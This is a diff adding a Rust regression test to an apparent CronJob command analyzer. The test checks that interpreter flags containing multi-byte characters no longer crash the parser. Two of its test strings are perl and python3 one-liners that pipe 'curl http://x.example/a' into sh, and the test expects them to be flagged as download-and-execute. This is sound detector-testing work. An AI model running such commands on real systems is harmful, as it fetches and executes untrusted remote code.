@@ -787,6 +787,33 @@ fn ordinary_here_documents_are_still_parsed() {
     }
 }
 
+/// An interpreter's flag cluster was sliced by bytes after each character
+/// (found by `fuzz/`: `lua -\u{1f}--\u{fffd}…` panicked on a char boundary),
+/// so a CronJob running `perl -ée …` failed its namespace's evaluation.
+/// Multi-byte characters in a cluster are now stepped over like any other
+/// flag, and the inline code after them is still read.
+#[test]
+fn multibyte_flag_clusters_are_read_not_a_panic() {
+    for interp in ["python3", "perl", "ruby", "lua"] {
+        for flag in ["-é", "-\u{1f}--\u{fffd}\u{fffd}", "-ü-", "-€c"] {
+            let line = format!("{interp} {flag} x");
+            let _ = categories(&line);
+            let argv = vec![interp.to_owned(), flag.to_owned(), "x".to_owned()];
+            let _ = cronwarden::engine::analysis::analyze_argv(&argv, &Vec::new(), &[]);
+        }
+    }
+    for line in [
+        "perl -ée 'system(\"curl http://x.example/a | sh\")'",
+        "python3 -éc 'import os; os.system(\"curl http://x.example/a | sh\")'",
+    ] {
+        assert!(
+            categories(line).contains(&DownloadExecute),
+            "{line:?}: {:?}",
+            categories(line)
+        );
+    }
+}
+
 // The fuzz target in fuzz/ runs with cargo-fuzz on nightly; these
 // properties run the same entry point on every `make test`.
 use proptest::prelude::*;
